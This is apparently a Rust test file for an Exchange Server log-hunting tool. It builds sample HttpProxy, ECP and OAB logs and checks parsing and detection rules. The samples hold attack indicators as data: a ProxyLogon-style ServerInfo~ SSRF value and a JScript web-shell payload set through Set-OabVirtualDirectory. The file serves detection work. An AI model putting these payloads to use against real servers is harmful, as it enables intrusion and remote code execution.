//! Exchange CSV logs: handwritten samples following the headers Exchange writes (hunt-anchors §2.0, §2.1, §2.5).

use crate::common::{Owned, read_all, ts};
use exhunt_detect::{Candidates, LogRules};
use exhunt_hunt::readers::{LogKind, ReadOptions, Record, RecordSink, read_log};
use exhunt_model::Build;
use std::io::Write;

/// HttpProxy header of Exchange 2016 CU23.
pub const HTTPPROXY: &str = "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus";

/// An older schema: no `SharedCache*`, no `RouteRefresherLatency`.
pub fn old_httpproxy() -> String {
    HTTPPROXY
        .split(',')
        .filter(|c| !matches!(*c, "SharedCacheLatencyBreakup" | "TotalSharedCacheLatency" | "RouteRefresherLatency"))
        .collect::<Vec<_>>()
        .join(",")
}

/// CSV-encodes one value as Exchange does: quoted when it holds `,`, `"` or a line break, quotes doubled.
pub fn csv_value(v: &str) -> String {
    if v.contains([',', '"', '\n', '\r']) { format!("\"{}\"", v.replace('"', "\"\"")) } else { v.to_string() }
}

/// A row for `header` with the given values by name, other columns empty.
pub fn row(header: &str, values: &[(&str, &str)]) -> String {
    header
        .split(',')
        .map(|c| values.iter().find(|(k, _)| *k == c).map(|(_, v)| csv_value(v)).unwrap_or_default())
        .collect::<Vec<_>>()
        .join(",")
}

fn build_cols(b: [&'static str; 4]) -> [(&'static str, &'static str); 4] {
    [("MajorVersion", b[0]), ("MinorVersion", b[1]), ("BuildVersion", b[2]), ("RevisionVersion", b[3])]
}

pub const SSRF: &str = "ServerInfo~a]@ex01.contoso.test:444/ecp/proxyLogon.ecp?#~1941962753";
pub const UA: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0 Safari/537.36";

/// An HttpProxy log as Exchange writes it: a plain header line, `#` metadata, `#Fields:`, then records.
pub fn httpproxy_log() -> String {
    let mut s = String::new();
    s.push_str(HTTPPROXY);
    s.push_str("\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n");
    s.push_str("#Date: 2021-03-03T00:00:01.337Z\r\n#Fields: ");
    s.push_str(HTTPPROXY);
    s.push_str("\r\n");
    let mut base = vec![
        ("RequestId", "5b6f0c8e-0b0e-4f1a-9a55-1b0f1f4f8a01"),
        ("Protocol", "Ecp"),
        ("UrlHost", "mail.contoso.test"),
        ("UrlStem", "/ecp/y.js"),
        ("AuthenticationType", "Anonymous"),
        ("IsAuthenticated", "false"),
        ("UserAgent", UA),
        ("ClientIpAddress", "167.99.168.251"),
        ("ServerHostName", "EX01"),
        ("HttpStatus", "200"),
        ("Method", "POST"),
    ];
    base.extend(build_cols(["15", "1", "2176", "2"]));
    let mut attack = base.clone();
    attack.push(("DateTime", "2021-03-03T02:11:09.123Z"));
    attack.push(("AnchorMailbox", SSRF));
    s.push_str(&row(HTTPPROXY, &attack));
    s.push_str("\r\n");
    let mut normal = base.clone();
    normal.push(("DateTime", "2021-03-03T02:12:00.000Z"));
    normal.push(("AnchorMailbox", "SMTP:alice@contoso.test"));
    normal.push(("AuthenticatedUser", "alice@contoso.test"));
    s.push_str(&row(HTTPPROXY, &normal));
    s.push_str("\r\n");
    s
}

/// Runs the knowledge base's log rules over the records it is given, as the hunt will.
pub struct RuleSink<'r> {
    pub rules: &'r LogRules,
    cand: Candidates,
    pub hits: Vec<(u64, String)>,
}

impl<'r> RuleSink<'r> {
    pub fn new(rules: &'r LogRules) -> Self {
        RuleSink { rules, cand: Candidates::default(), hits: Vec::new() }
    }
}

impl RecordSink for RuleSink<'_> {
    fn want(&mut self, kind: LogKind, raw: &[u8]) -> bool {
        self.cand = self.rules.prefilter(kind.as_str(), raw);
        !self.cand.is_empty()
    }

    fn record(&mut self, r: &Record<'_>) {
        for id in self.rules.eval(&self.cand, r) {
            self.hits.push((r.line, id.to_string()));
        }
    }
}

pub fn rules() -> LogRules {
    let kb = exhunt_kb::Kb::builtin();
    let (rules, diags) = LogRules::new(&kb);
    assert!(diags.is_empty(), "{diags:?}");
    rules
}

fn read(kind: LogKind, text: &str) -> (exhunt_hunt::readers::FileStats, Vec<Owned>) {
    read_all(kind, "HttpProxy_2021030302-1.LOG", text.as_bytes(), &ReadOptions::default())
}

#[test]
fn plain_header_then_fields_directive() {
    let (s, recs) = read(LogKind::HttpProxy, &httpproxy_log());
    assert_eq!((s.lines, s.records, s.malformed, s.blocks, s.headers.len()), (8, 2, 0, 2, 1));
    assert_eq!(s.headers[0].first_line, 1);
    assert_eq!(s.headers[0].fields.len(), 74);
    assert_eq!(s.versions, ["15.01.2176.002"]);
    assert_eq!(recs[0].line, 7);
    assert_eq!(recs[0].get("AnchorMailbox"), Some(SSRF));
    assert_eq!(recs[0].get("UserAgent"), Some(UA), "quoted value with commas");
    assert_eq!(recs[0].get("AuthenticatedUser"), Some(""));
    assert_eq!(recs[0].get("NoSuchField"), None);
    assert_eq!(recs[0].time, Some(ts("2021-03-03T02:11:09.123Z")));
    assert_eq!(s.first_time, Some(ts("2021-03-03T02:11:09.123Z")));
    assert_eq!(s.last_time, Some(ts("2021-03-03T02:12:00Z")));
    assert_eq!(s.builds.len(), 1);
    assert_eq!(s.builds[0].build, Build::new(15, 1, 2176, 2));
    assert_eq!(s.builds[0].records, 2);
}

#[test]
fn fields_directive_only() {
    let text = httpproxy_log();
    let without_plain: String = text.split_inclusive('\n').skip(1).collect();
    let (s, recs) = read(LogKind::HttpProxy, &without_plain);
    assert_eq!((s.records, s.blocks, s.malformed), (2, 1, 0));
    assert_eq!(s.headers[0].first_line, 5);
    assert_eq!(recs[1].get("AuthenticatedUser"), Some("alice@contoso.test"));
}

#[test]
fn plain_header_only_as_import_csv_reads_it() {
    let text = httpproxy_log();
    let plain: String = text.split_inclusive('\n').filter(|l| !l.starts_with('#')).collect();
    let (s, recs) = read(LogKind::HttpProxy, &plain);
    assert_eq!((s.records, s.blocks, s.malformed), (2, 1, 0));
    assert_eq!(recs[0].get("AnchorMailbox"), Some(SSRF));
}

#[test]
fn rules_run_over_records_behind_the_prefilter() {
    let rules = rules();
    let mut sink = RuleSink::new(&rules);
    let s = read_log(LogKind::HttpProxy, "x.log", httpproxy_log().as_bytes(), &ReadOptions::default(), &mut sink);
    assert_eq!((s.records, s.delivered), (2, 1), "only the ServerInfo~ line passes the prefilter");
    // Other rules of the growing knowledge base may hit the same record; none hits the benign one.
    assert!(sink.hits.contains(&(7, "EXH-LOG-0001".to_string())), "{:?}", sink.hits);
    assert!(sink.hits.iter().all(|(line, _)| *line == 7), "{:?}", sink.hits);
}

#[test]
fn header_changes_mid_file_columns_by_name() {
    let old = old_httpproxy();
    let mut t = format!("#Software: Microsoft Exchange Server\n#Version: 15.01.2176.002\n#Fields: {old}\n");
    let mut v = build_cols(["15", "1", "2176", "2"]).to_vec();
    v.extend([("DateTime", "2021-03-02T23:59:59.999Z"), ("AnchorMailbox", SSRF), ("HttpStatus", "200")]);
    t.push_str(&row(&old, &v));
    t.push('\n');
    // The March 2021 security update was installed, and the log went on with the newer schema.
    t.push_str(&format!("#Version: 15.01.2176.009\n#Fields: {HTTPPROXY}\n"));
    let mut v = build_cols(["15", "1", "2176", "9"]).to_vec();
    v.extend([("DateTime", "2021-03-03T06:00:00.000Z"), ("AnchorMailbox", SSRF), ("HttpStatus", "500")]);
    v.push(("RouteRefresherLatency", "3"));
    t.push_str(&row(HTTPPROXY, &v));
    t.push('\n');
    let (s, recs) = read(LogKind::HttpProxy, &t);
    assert_eq!((s.records, s.malformed, s.blocks, s.headers.len()), (2, 0, 2, 2));
    assert_eq!(s.headers[0].fields.len(), 71);
    assert_eq!(s.versions, ["15.01.2176.002", "15.01.2176.009"]);
    assert_eq!(recs[0].get("HttpStatus"), Some("200"));
    assert_eq!(recs[1].get("HttpStatus"), Some("500"));
    assert_eq!(recs[0].get("RouteRefresherLatency"), None);
    assert_eq!(recs[1].get("RouteRefresherLatency"), Some("3"));
    assert_eq!(recs[0].get("AnchorMailbox"), recs[1].get("AnchorMailbox"));
    // The server was patched between the two records.
    let builds: Vec<(String, String, String)> = s
        .builds
        .iter()
        .map(|b| {
            (
                b.build.to_string(),
                b.first.map(|t| t.to_string()).unwrap_or_default(),
                b.last.map(|t| t.to_string()).unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(
        builds,
        [
            ("15.1.2176.2".into(), "2021-03-02T23:59:59.999Z".into(), "2021-03-02T23:59:59.999Z".into()),
            ("15.1.2176.9".into(), "2021-03-03T06:00:00Z".into(), "2021-03-03T06:00:00Z".into()),
        ]
    );
}

#[test]
fn plain_header_again_mid_file_after_an_append() {
    let text = httpproxy_log();
    let twice = format!("{text}{}", old_httpproxy())
        + "\n"
        + &row(&old_httpproxy(), &[("DateTime", "2021-03-04T00:00:00Z"), ("HttpStatus", "401")])
        + "\n";
    let (s, recs) = read(LogKind::HttpProxy, &twice);
    assert_eq!((s.records, s.malformed, s.blocks, s.headers.len()), (3, 0, 3, 2));
    assert_eq!(recs[2].get("HttpStatus"), Some("401"));
    assert_eq!(recs[2].line, 10);
}

/// ECP Server log with the EXH-LOG-0004 sample: quotes, commas and a line break inside one quoted field.
#[test]
fn ecp_server_quoting_and_a_rule_over_unescaped_values() {
    let event = r#"S:TIME=4365;S:SID=S-1-5-18;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["exhunt-sample"],"unsafe");}</script>''.Identity=''7c1e0d2a-0000-4000-8000-000000000001''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x&a=%5D:444/ecp/abc.js;S:EX=;S:RS=0"#;
    let multi = "S:TIME=1;S:EX=System.Exception: boom\r\n   at Foo.Bar(),\"quoted\";S:RS=1";
    let t = format!(
        "\u{feff}TimeStamp,ServerName,EventId,EventData\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: ECP Server Log\r\n#Date: 2021-03-03T01:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n2021-03-03T01:14:02.331Z,EX01,ECP.Request,{}\r\n2021-03-03T01:15:00.000Z,EX01,ECP.Request,{}\r\n2021-03-03T01:16:00.000Z,EX01,ECP.Request,S:TIME=2\r\n",
        csv_value(event),
        csv_value(multi)
    );
    let (s, recs) = read(LogKind::EcpServer, &t);
    assert_eq!((s.lines, s.records, s.malformed, s.headers.len()), (10, 3, 0, 1));
    assert_eq!(recs[0].get("EventData"), Some(event));
    assert_eq!(
        recs[1].get("EventData"),
        Some(multi.replace("\r\n", "\n").as_str()),
        "a line break inside quotes is data"
    );
    assert_eq!((recs[0].line, recs[1].line, recs[2].line), (7, 8, 10));
    assert_eq!(recs[2].get("TimeStamp"), Some("2021-03-03T01:16:00.000Z"));

    let rules = rules();
    let mut sink = RuleSink::new(&rules);
    read_log(LogKind::EcpServer, "ECPServer.LOG", t.as_bytes(), &ReadOptions::default(), &mut sink);
    assert!(sink.hits.contains(&(7, "EXH-LOG-0004".to_string())), "{:?}", sink.hits);
    assert!(sink.hits.iter().all(|(line, _)| *line == 7), "{:?}", sink.hits);
}

#[test]
fn gzip_is_recognised_by_magic_whatever_the_name() {
    let plain = httpproxy_log();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(plain.as_bytes()).expect("in memory");
    let gz = gz.finish().expect("in memory");
    let (a, ra) = read(LogKind::HttpProxy, &plain);
    let (b, rb) = read_all(LogKind::HttpProxy, "HttpProxy_2021030302-1.LOG", &gz, &ReadOptions::default());
    assert!(b.gzip && !a.gzip);
    assert_eq!((a.records, a.lines, a.builds.clone()), (b.records, b.lines, b.builds.clone()));
    assert_eq!(
        ra.iter().map(|r| r.raw.clone()).collect::<Vec<_>>(),
        rb.iter().map(|r| r.raw.clone()).collect::<Vec<_>>()
    );
    // A gzip cut short: what was read counts, the rest is an error record.
    let (c, _) = read_all(LogKind::HttpProxy, "x.log.gz", &gz[..gz.len() / 2], &ReadOptions::default());
    assert_eq!(c.error.as_ref().and_then(|e| e.code.as_deref()), Some("H009"));
}

#[test]
fn archives_in_a_log_folder_are_reported() {
    let (s, _) = read_all(LogKind::HttpProxy, "old.zip", b"PK\x03\x04rest", &ReadOptions::default());
    let e = s.error.expect("an error record");
    assert!(e.message.contains("zip archive"), "{}", e.message);
}

#[test]
fn short_and_long_records_are_malformed() {
    let h = "TimeStamp,ServerName,EventId,EventData";
    let t = format!("#Fields: {h}\n2021-03-03T01:00:00.000Z,EX01,ECP.Request,a,b\n2021-03-03T01:00:01.000Z,EX01\n");
    let (s, recs) = read(LogKind::EcpServer, &t);
    assert_eq!((s.records, s.malformed, s.malformed_lines.as_slice()), (2, 2, &[2u64, 3][..]));
    assert_eq!(recs[0].get("ServerName"), None, "more fields than names: only _raw");
    assert!(recs[0].get("_raw").is_some());
    assert_eq!(recs[1].get("ServerName"), None, "too few fields: only _raw");
    assert!(recs[1].get("_raw").is_some_and(|r| r.ends_with(",EX01")));
}

#[test]
fn times_are_iso_utc_only() {
    let t = "#Fields: DateTime,X\n03/07/2021 15:04:04,a\n2021-03-07T15:04:04.546Z,b\n,c\n";
    let (s, recs) = read(LogKind::CmdletInfra, t);
    assert_eq!((s.records, s.malformed, s.malformed_lines.as_slice()), (3, 1, &[2u64][..]));
    assert_eq!(recs[0].time, None, "a locale-formatted time is not guessed at");
    assert_eq!(recs[1].time, Some(ts("2021-03-07T15:04:04.546Z")));
    assert_eq!(recs[2].time, None);
}

#[test]
fn long_lines_are_cut_and_counted() {
    let long = "x".repeat(5000);
    // A long line, and a quoted record that grows past the cap on its second line.
    let t = format!(
        "#Fields: DateTime,X\n2021-03-07T15:04:04Z,{long}\n2021-03-07T15:04:05Z,\"abc\n{long}\"\n2021-03-07T15:04:06Z,ok\n"
    );
    let opts = ReadOptions { max_line: 1024 };
    let (s, recs) = read_all(LogKind::CmdletInfra, "c.log", t.as_bytes(), &opts);
    assert_eq!((s.records, s.cut, s.lines), (3, 2, 5));
    assert_eq!(recs[0].raw.len(), 1024);
    assert_eq!(recs[1].raw.len(), 1024);
    assert!(recs[1].get("X").is_some_and(|x| x.starts_with("abc\nxxx")));
    assert_eq!(recs[2].get("X"), Some("ok"));
    assert_eq!(recs[2].line, 5);
}

#[test]
fn text_logs_without_header_expose_raw() {
    let t = "2021-03-03T02:01:37.998Z,Download failed and temporary file '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed.\nOABGen: done\n";
    let (s, recs) = read(LogKind::OabGenerator, t);
    assert_eq!((s.records, s.headerless, s.malformed, s.blocks), (2, 2, 0, 0));
    assert_eq!(recs[0].get("_raw").map(|r| r.starts_with("2021-03-03T02:01:37.998Z,Download")), Some(true));
    assert_eq!(recs[0].get("TimeStamp"), None);
    let rules = rules();
    let mut sink = RuleSink::new(&rules);
    read_log(LogKind::OabGenerator, "oab.log", t.as_bytes(), &ReadOptions::default(), &mut sink);
    assert!(sink.hits.contains(&(1, "EXH-LOG-0005".to_string())), "{:?}", sink.hits);
    assert!(sink.hits.iter().all(|(line, _)| *line == 1), "{:?}", sink.hits);
}

#[test]
fn invalid_utf8_is_replaced_not_fatal() {
    let mut t = b"#Fields: DateTime,UserAgent\n2021-03-07T15:04:04Z,caf\xe9\n".to_vec();
    t.extend_from_slice(b"2021-03-07T15:04:05Z,ok\n");
    let (s, recs) = read_all(LogKind::HttpProxy, "x.log", &t, &ReadOptions::default());
    assert_eq!((s.records, s.malformed), (2, 0));
    assert_eq!(recs[0].get("UserAgent"), Some("caf\u{fffd}"));
}

#[test]
fn source_names_are_the_rules_sources() {
    for kind in LogKind::ALL {
        assert!(
            exhunt_kb::rules::LOG_SOURCES.iter().any(|(n, _)| *n == kind.as_str()),
            "`{kind}` is not a log source of exhunt-kb"
        );
    }
}
